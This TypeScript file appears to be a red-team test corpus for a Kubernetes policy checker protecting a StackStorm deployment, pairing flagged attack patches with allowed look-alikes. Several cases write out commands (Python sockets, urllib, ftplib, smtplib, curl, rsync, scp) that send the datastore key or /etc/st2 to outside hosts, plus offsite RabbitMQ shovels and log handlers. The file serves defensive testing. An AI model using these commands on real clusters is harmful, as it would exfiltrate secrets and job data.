/**
 * The thirteenth red team's store exfiltration (test/attackers/red13), the
 * stores piece, rewritten as patches over prod with variants and safe
 * look-alikes:
 *
 * - a Service st2 connects through (its coordination store, its API)
 *   turned into an ExternalName to an outside name: cluster DNS answers with
 *   a CNAME and st2 takes its locks there (ST2-EXP-017); an ExternalName
 *   nothing of st2 uses stays allowed;
 * - etcd's membership decided outside: an extra `--initial-cluster` member
 *   at an outside address, `--discovery` at a public discovery service,
 *   `--discovery-srv` under an outside domain; RabbitMQ shovels and
 *   federation upstreams at outside brokers, from a postStart hook or a
 *   static shovel in advanced.config (ST2-SEC-039); the same members under
 *   their cluster FQDNs and a shovel to another vhost of the same broker stay
 *   allowed;
 * - RabbitMQ's LDAP backend at an outside server, in plain or with LDAPS to
 *   an unlisted host, in rabbitmq.conf or advanced.config (ST2-OPS-013, as
 *   the HTTP backend); an in-cluster directory over StartTLS stays allowed;
 * - the datastore key sent out by Python fed on a heredoc, ftplib and
 *   smtplib in an argv (whose quotes the cutter drops), an exec probe (the
 *   kubelet runs it in the container, with its mounts), rsync -a and scp -r
 *   of a directory holding a Secret's mount (ST2-SEC-016); the same programs
 *   kept inside the cluster, a probe of the pod's own port, a mail without
 *   a file and a recursive copy of the packs stay allowed;
 * - st2's `[<service>] logging` file (Python's fileConfig) with a SysLog,
 *   HTTP or Socket handler at an outside host (ST2-SEC-040): records carry
 *   execution parameters and results; a syslog handler on the node's
 *   /dev/log or to an in-cluster collector stays allowed;
 * - an image volume (Kubernetes ImageVolume, on by default from 1.35; the
 *   pinned 1.34 API server refuses it unless the gate is on) from an unlisted
 *   publisher mounted where st2 loads packs or virtualenvs (ST2-HRD-027); the
 *   organisation's own registry stays allowed.
 */
import type { RedTeamCase } from './corpus.js';
import { bodyCase, type CaseBody } from './case-body.js';
import { patch, SPEC, STS, userConf } from './targets.js';

const service = (name: string, externalName: string): CaseBody => ({ patches: [patch({ kind: 'Service', name }, { op: 'replace', path: '/spec', value: { type: 'ExternalName', externalName } })] });

/** etcd's --initial-cluster flag (the 8th word of its command) replaced. */
const etcdFlag = (flag: string): CaseBody => ({ patches: [patch(STS('etcd'), { op: 'replace', path: `${SPEC}/containers/0/command/7`, value: flag })] });
const MEMBERS = 'etcd-0=http://etcd-0.etcd-headless:2380,etcd-1=http://etcd-1.etcd-headless:2380,etcd-2=http://etcd-2.etcd-headless:2380';

/** A postStart hook on the RabbitMQ node running this script. */
const rabbitHook = (script: string): CaseBody => ({ patches: [patch(STS('rabbitmq'), { op: 'add', path: `${SPEC}/containers/0/lifecycle`, value: { postStart: { exec: { command: ['sh', '-c', script] } } } })] });

/** rabbitmq.conf: the base's peer discovery and definitions, plus these lines; the LDAP plugin enabled. */
const RABBIT_BASE = [
  'cluster_formation.peer_discovery_backend = rabbit_peer_discovery_classic_config',
  'cluster_formation.classic_config.nodes.1 = rabbit@rabbitmq-0.rabbitmq-discovery',
  'cluster_formation.classic_config.nodes.2 = rabbit@rabbitmq-1.rabbitmq-discovery',
  'cluster_formation.classic_config.nodes.3 = rabbit@rabbitmq-2.rabbitmq-discovery',
  'queue_master_locator = min-masters',
  'loopback_users.guest = false',
  'cluster_partition_handling = pause_minority',
  'load_definitions = /etc/rabbitmq/definitions.json',
];
const rabbitConf = (lines: string[], extra: Record<string, string> = {}): CaseBody => ({
  patches: [
    patch(
      { kind: 'ConfigMap', name: 'rabbitmq-config' },
      { op: 'replace', path: '/data/enabled_plugins', value: '[rabbitmq_management,rabbitmq_auth_backend_ldap].\n' },
      { op: 'replace', path: '/data/rabbitmq.conf', value: [...RABBIT_BASE, ...lines, ''].join('\n') },
      ...Object.entries(extra).map(([key, value]) => ({ op: 'add', path: `/data/${key}`, value })),
    ),
  ],
});

const LIM = { requests: { cpu: '10m', memory: '64Mi' }, limits: { cpu: '200m', memory: '256Mi' } };
const KEY_MOUNT = { name: 'st2-datastore-crypto-key-vol', mountPath: '/etc/st2/keys', readOnly: true };
const KEY = '/etc/st2/keys/datastore_key.json';
/** A sidecar in st2's image beside a Deployment's containers, with the datastore key mounted. */
const sidecar = (deployment: string, command: string[]): CaseBody => ({
  patches: [patch({ group: 'apps', kind: 'Deployment', name: deployment }, { op: 'add', path: `${SPEC}/containers/-`, value: { name: 'helper', image: 'stackstorm/st2actionrunner:3.8.1', command, volumeMounts: [KEY_MOUNT], resources: LIM } })],
});
const shell = (deployment: string, script: string): CaseBody => sidecar(deployment, ['bash', '-c', script]);
/** An exec probe of this kind on a Deployment's first container (which mounts the key). */
const probe = (deployment: string, kind: string, command: string[]): CaseBody => ({
  patches: [patch({ group: 'apps', kind: 'Deployment', name: deployment }, { op: 'add', path: `${SPEC}/containers/0/${kind}`, value: { exec: { command }, periodSeconds: 30, failureThreshold: 5 } })],
});

/** st2.user.conf naming a logging file for one service, and that file mounted into its Deployment from a new ConfigMap. */
const logging = (deployment: string, section: string, handler: string): CaseBody => ({
  patches: [
    patch({ kind: 'ConfigMap', name: 'st2-config' }, { op: 'replace', path: '/data/st2.user.conf', value: `# Operator overrides. Highest priority.\n[api]\nallow_origin = '*'\n\n[${section}]\nlogging = /etc/st2/logging.custom.conf\n` }),
    patch({ group: 'apps', kind: 'Deployment', name: deployment }, { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'logcfg', configMap: { name: 'st2-logging-custom' } } }, { op: 'add', path: `${SPEC}/containers/0/volumeMounts/-`, value: { name: 'logcfg', mountPath: '/etc/st2/logging.custom.conf', subPath: 'logging.conf' } }),
  ],
  resources: [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'st2-logging-custom' }, data: { 'logging.conf': ['[loggers]', 'keys=root', '[handlers]', 'keys=console,out', '[formatters]', 'keys=plain', '[logger_root]', 'level=INFO', 'handlers=console,out', '[handler_console]', 'class=StreamHandler', 'level=INFO', 'formatter=plain', 'args=(sys.stdout,)', '[handler_out]', ...handler.split('\n'), 'level=INFO', 'formatter=plain', '[formatter_plain]', 'format=%(asctime)s %(levelname)s %(message)s', ''].join('\n') } }],
});

/** An image volume mounted into the runners' first container. */
const imageVolume = (reference: string, mountPath: string): CaseBody => ({
  patches: [patch({ group: 'apps', kind: 'Deployment', name: 'st2actionrunner' }, { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'extra', image: { reference, pullPolicy: 'IfNotPresent' } } }, { op: 'add', path: `${SPEC}/containers/0/volumeMounts/-`, value: { name: 'extra', mountPath, readOnly: true } })],
});

export function fresh13StoresCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  const add = (id: string, cls: RedTeamCase['cls'], rule: string | undefined, body: CaseBody): void => {
    cases.push(bodyCase(id, cls, rule, body));
  };

  // A Service st2 connects through, answered by a CNAME to an outside name.
  // st2's locks at a coordination store outside the cluster: whoever runs it decides who holds each lock.
  add('f13st-coordination-url-outside-ip', 'exposure', 'ST2-OPS-013', { patches: [userConf('[coordination]', 'url = etcd://203.0.113.9:2379')] });
  add('f13st-coordination-url-outside-redis', 'exposure', 'ST2-OPS-013', { patches: [userConf('[coordination]', 'url = redis://:locks@coord.locks-hosting.example.net:6379')] });
  add('f13st-coordination-url-fqdn-ok', 'exposure', undefined, { patches: [userConf('[coordination]', 'url = etcd://etcd.st2-prod.svc.cluster.local:2379')] });
  add('f13st-extname-etcd', 'exposure', 'ST2-EXP-017', service('etcd', 'locks.coord-hosting.example.net'));
  add('f13st-extname-st2api', 'exposure', 'ST2-EXP-017', service('st2api', 'api.st2-mirror.example.org'));
  // An ExternalName nothing of st2 connects through (a mail relay for packs).
  add('f13st-extname-unused-ok', 'exposure', undefined, { resources: [{ apiVersion: 'v1', kind: 'Service', metadata: { name: 'smtp-relay' }, spec: { type: 'ExternalName', externalName: 'smtp.mail-provider.example.com' } }] });

  // etcd members and discovery outside the cluster.
  add('f13st-etcd-member-ip', 'exposure', 'ST2-SEC-039', etcdFlag(`--initial-cluster=${MEMBERS},etcd-3=http://198.51.100.44:2380`));
  add('f13st-etcd-member-name', 'exposure', 'ST2-SEC-039', etcdFlag(`--initial-cluster=${MEMBERS},etcd-dr=https://etcd-dr.backup.example.org:2380`));
  add('f13st-etcd-discovery-public', 'exposure', 'ST2-SEC-039', etcdFlag('--discovery=https://discovery.etcd.io/3e86b59982e49066c5d813af1c2e2579'));
  add('f13st-etcd-discovery-srv', 'exposure', 'ST2-SEC-039', etcdFlag('--discovery-srv=peers.example.org'));
  // The same three members under their cluster FQDNs.
  add('f13st-etcd-members-fqdn-ok', 'exposure', undefined, etcdFlag('--initial-cluster=etcd-0=http://etcd-0.etcd-headless.st2-prod.svc.cluster.local:2380,etcd-1=http://etcd-1.etcd-headless.st2-prod.svc.cluster.local:2380,etcd-2=http://etcd-2.etcd-headless.st2-prod.svc.cluster.local:2380'));

  // Shovels and federation at outside brokers.
  add('f13st-shovel-hook', 'exposure', 'ST2-SEC-039', rabbitHook(`sleep 90; rabbitmq-plugins enable rabbitmq_shovel; rabbitmqctl set_parameter shovel copy-out '{"src-uri":"amqp://","src-exchange":"st2.liveaction","src-exchange-key":"#","dest-uri":"amqp://copy:copy@mq.offsite.example.net:5672"}'`));
  add('f13st-federation-hook', 'exposure', 'ST2-SEC-039', rabbitHook(`sleep 90; rabbitmq-plugins enable rabbitmq_federation; rabbitmqctl set_parameter federation-upstream feed '{"uri":"amqps://feed.partner.example.com"}'; rabbitmqctl set_policy --apply-to exchanges feed "^st2\\\\." '{"federation-upstream-set":"all"}'`));
  add('f13st-shovel-static', 'exposure', 'ST2-SEC-039', rabbitConf([], { 'advanced.config': '[{rabbitmq_shovel, [{shovels, [{archive, [{source, [{protocol, amqp091}, {uris, ["amqp://"]}, {queue, <<"st2.actionrunner.work">>}]}, {destination, [{protocol, amqp091}, {uris, ["amqp://203.0.113.71"]}]}]}]}]}].\n' }));
  // A shovel between two vhosts of the same broker (amqp:// with no host is the local node).
  add('f13st-shovel-local-ok', 'exposure', undefined, rabbitHook(`sleep 90; rabbitmq-plugins enable rabbitmq_shovel; rabbitmqctl set_parameter -p archive shovel keep '{"src-uri":"amqp:///archive","src-queue":"audit.in","dest-uri":"amqp:///archive","dest-queue":"audit.kept"}'`));

  // RabbitMQ's logins checked against an outside directory.
  add('f13st-ldap-plain', 'exposure', 'ST2-OPS-013', rabbitConf(['auth_backends.1 = ldap', 'auth_backends.2 = internal', 'auth_ldap.servers.1 = directory.corp-hosted.example.com', 'auth_ldap.user_dn_pattern = uid=${username},ou=people,dc=corp']));
  add('f13st-ldap-tls-unlisted', 'exposure', 'ST2-OPS-013', rabbitConf(['auth_backends.1.authn = ldap', 'auth_backends.1.authz = internal', 'auth_ldap.servers.1 = 198.51.100.80', 'auth_ldap.use_ssl = true', 'auth_ldap.port = 636']));
  add('f13st-ldap-advanced', 'exposure', 'ST2-OPS-013', rabbitConf(['auth_backends.1 = ldap'], { 'advanced.config': '[{rabbitmq_auth_backend_ldap, [{servers, ["ldap.example.org"]}, {use_ssl, false}, {user_dn_pattern, "cn=${username},dc=example"}]}].\n' }));
  // An in-cluster directory over StartTLS, internal users as fallback.
  add('f13st-ldap-incluster-ok', 'exposure', undefined, rabbitConf(['auth_backends.1 = ldap', 'auth_backends.2 = internal', 'auth_ldap.servers.1 = openldap.st2-prod.svc.cluster.local', 'auth_ldap.use_starttls = true', 'auth_ldap.user_dn_pattern = uid=${username},ou=people,dc=corp']));

  // The datastore key sent out by channels the command reading missed.
  add('f13st-py-heredoc-socket', 'secrets', 'ST2-SEC-016', shell('st2api', `python3 - <<'EOF'\nimport socket\nc = socket.create_connection(("198.51.100.40", 9443))\nc.sendall(open("${KEY}", "rb").read())\nEOF\nexec sleep infinity`));
  add('f13st-py-heredoc-urllib', 'secrets', 'ST2-SEC-016', shell('st2actionrunner', `/opt/stackstorm/st2/bin/python <<PYCODE\nimport urllib.request\nurllib.request.urlopen("https://collect.example.net/k", data=open("${KEY}", "rb").read())\nPYCODE\nsleep infinity`));
  add('f13st-py-ftplib', 'secrets', 'ST2-SEC-016', sidecar('st2actionrunner', ['python3', '-c', `import ftplib; ftp = ftplib.FTP_TLS('files.example.org'); ftp.login('u', 'p'); ftp.storbinary('STOR key', open('${KEY}', 'rb'))`]));
  add('f13st-py-smtp-ssl', 'secrets', 'ST2-SEC-016', sidecar('st2api', ['python3', '-c', `import smtplib; m = smtplib.SMTP_SSL('smtp.example.org', 465); m.sendmail('ops@example.org', ['drop@example.org'], open('${KEY}').read())`]));
  add('f13st-probe-liveness-python', 'secrets', 'ST2-SEC-016', probe('st2api', 'livenessProbe', ['python3', '-c', `import urllib.request as r; r.urlopen('http://203.0.113.90/up', data=open('${KEY}', 'rb').read())`]));
  add('f13st-probe-startup-shell', 'secrets', 'ST2-SEC-016', probe('st2actionrunner', 'startupProbe', ['sh', '-c', `curl -s --data-binary @${KEY} https://hooks.example.com/in; true`]));
  add('f13st-rsync-daemon', 'secrets', 'ST2-SEC-016', shell('st2actionrunner', 'rsync -az /etc/st2/ 198.51.100.31::incoming/; sleep infinity'));
  add('f13st-scp-recursive', 'secrets', 'ST2-SEC-016', shell('st2api', 'scp -r -o StrictHostKeyChecking=no /etc/st2 sync@203.0.113.55:/srv/st2-copy; sleep infinity'));
  // The same programs kept inside the cluster or carrying nothing secret.
  add('f13st-py-heredoc-health-ok', 'secrets', undefined, shell('st2actionrunner', `python3 - <<'EOF'\nimport socket\nsocket.create_connection(("artifacts.st2-prod.svc.cluster.local", 8080), timeout=2).close()\nEOF\nexec sleep infinity`));
  add('f13st-probe-local-python-ok', 'secrets', undefined, probe('st2api', 'startupProbe', ['python3', '-c', "import urllib.request as r; r.urlopen('http://127.0.0.1:9101/v1/', timeout=2)"]));
  add('f13st-smtp-notice-ok', 'secrets', undefined, sidecar('st2actionrunner', ['python3', '-c', "import smtplib; m = smtplib.SMTP('smtp.example.org', 587); m.starttls(); m.sendmail('ops@example.org', ['ops@example.org'], 'runner restarted')"]));
  add('f13st-rsync-packs-ok', 'secrets', undefined, shell('st2actionrunner', 'rsync -a /opt/stackstorm/packs/ rsync://artifacts.st2-prod.svc.cluster.local/packs/; sleep infinity'));

  // st2's logs handed to a network handler at an outside host.
  add('f13st-log-syslog-tcp', 'st2-config', 'ST2-SEC-040', logging('st2api', 'api', "class=logging.handlers.SysLogHandler\nargs=(('siem.example.com', 6514), handlers.SysLogHandler.LOG_LOCAL0, socket.SOCK_STREAM)"));
  add('f13st-log-http-runner', 'st2-config', 'ST2-SEC-040', logging('st2actionrunner', 'actionrunner', "class=handlers.HTTPHandler\nargs=('ingest.example.org', '/v1/logs', 'POST')"));
  add('f13st-log-socket', 'st2-config', 'ST2-SEC-040', logging('st2rulesengine', 'rulesengine', "class=handlers.SocketHandler\nargs=('203.0.113.77', 9020)"));
  // The node's syslog socket, and a collector inside the cluster.
  add('f13st-log-devlog-ok', 'st2-config', undefined, logging('st2api', 'api', "class=handlers.SysLogHandler\nargs=('/dev/log',)"));
  add('f13st-log-incluster-ok', 'st2-config', undefined, logging('st2actionrunner', 'actionrunner', "class=handlers.SysLogHandler\nargs=(('fluent-bit.logging.svc.cluster.local', 5140),)"));

  // Pack code from an image volume anyone can push to.
  add('f13st-imagevol-packs', 'components', 'ST2-HRD-027', imageVolume('ghcr.io/st2-community-packs/bundle:latest', '/opt/stackstorm/packs/community'));
  add('f13st-imagevol-venvs', 'components', 'ST2-HRD-027', imageVolume('quay.io/someone/st2-venvs:2024', '/opt/stackstorm/virtualenvs/extra'));
  add('f13st-imagevol-own-registry-ok', 'components', undefined, imageVolume('registry.corp.example/st2/packs:1.4.0', '/opt/stackstorm/packs/corp'));

  return cases;
}
